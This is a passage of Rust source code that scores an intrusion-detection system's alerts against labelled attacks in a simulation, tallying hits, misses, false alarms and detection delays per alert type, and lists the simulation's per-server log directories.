    labels: &[Label],
) -> Vec<(AlertType, Score)> {
    let mut out: Vec<(AlertType, Score)> = AlertType::ALL
        .iter()
        .map(|t| (*t, Score::default()))
        .collect();
    let mut used = vec![false; alerts.len()];
    for l in labels {
        let hit = alerts
            .iter()
            .enumerate()
            .find(|(i, a)| !used[*i] && matches(a, l));
        let s = &mut out
            .iter_mut()
            .find(|(t, _)| *t == l.alert_type)
            .expect("every type listed")
            .1;
        match hit {
            Some((i, _)) => {
                used[i] = true;
                s.tp += 1;
                let at = detected.get(i).copied().unwrap_or(l.start);
                s.delays_ms.push((at - l.start).max(0));
            }
            None => s.fn_ += 1,
        }
    }
    for (i, a) in alerts.iter().enumerate() {
        // An alert that is another detection of a labelled attack (a brute force that is also
        // a harmful application) is not a false positive.
        let related = labels.iter().any(|l| related(a, l));
        if !used[i] && !related {
            if let Some((_, s)) = out.iter_mut().find(|(t, _)| *t == a.alert_type) {
                s.fp += 1;
            }
        }
    }
    out
}

/// The log directories of a simulation, by server.
pub fn servers(dir: &Path) -> std::io::Result<Vec<(String, PathBuf)>> {
    let mut v: Vec<(String, PathBuf)> = std::fs::read_dir(dir)?
        .flatten()
        .filter(|e| e.path().is_dir())
        .map(|e| (e.file_name().to_string_lossy().into_owned(), e.path()))
        .collect();
    v.sort();
    Ok(v)
}
